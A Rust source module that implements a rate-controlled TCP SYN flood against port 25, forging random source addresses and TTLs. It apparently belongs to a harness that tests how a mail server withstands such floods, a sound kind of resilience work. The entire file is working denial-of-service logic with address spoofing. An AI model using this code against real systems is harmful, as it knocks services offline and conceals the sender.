//! A flood of SYNs with forged sources.

use std::io;
use std::sync::mpsc::{self, RecvTimeoutError, Sender};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, anyhow};
use fastrand::Rng;

use crate::forger::{ADDRESSES, Forger};
use crate::site::Site;

/// Time between two bursts.
const INTERVAL: Duration = Duration::from_millis(10);

/// Sends SYNs to port 25, from random addresses out of 131,072, until it is
/// dropped.
pub struct Flood {
    stop: Option<Sender<()>>,
    thread: Option<JoinHandle<io::Result<u64>>>,
}

impl Flood {
    /// Sends this many SYNs per second.
    ///
    /// # Errors
    ///
    /// A route or the socket could not be created.
    pub fn start<S>(site: &Site<S>, per_second: u32) -> Result<Self> {
        let forger = Forger::new(site)?;
        let (stop, stopped) = mpsc::channel();
        let thread = thread::spawn(move || {
            let mut random = Rng::with_seed(per_second.into());
            let start = Instant::now();
            let mut sent = 0;
            while stopped.recv_timeout(INTERVAL) == Err(RecvTimeoutError::Timeout) {
                let due = start.elapsed().as_secs_f64() * f64::from(per_second);
                while (sent as f64) < due {
                    let source = Forger::address(random.u32(..ADDRESSES));
                    let ttl = if random.bool() { 64 } else { 128 };
                    forger.syn(source, random.u16(1024..), ttl)?;
                    sent += 1;
                }
            }
            Ok(sent)
        });
        Ok(Self {
            stop: Some(stop),
            thread: Some(thread),
        })
    }

    /// Stops the flood and returns the number of sent SYNs.
    ///
    /// # Errors
    ///
    /// A SYN could not be sent.
    pub fn stop(mut self) -> Result<u64> {
        let sent = self.end().context("the flood had ended")?;
        Ok(sent.map_err(|_| anyhow!("the flood's thread panicked"))??)
    }

    fn end(&mut self) -> Option<thread::Result<io::Result<u64>>> {
        drop(self.stop.take());
        Some(self.thread.take()?.join())
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        let _ = self.end();
    }
}
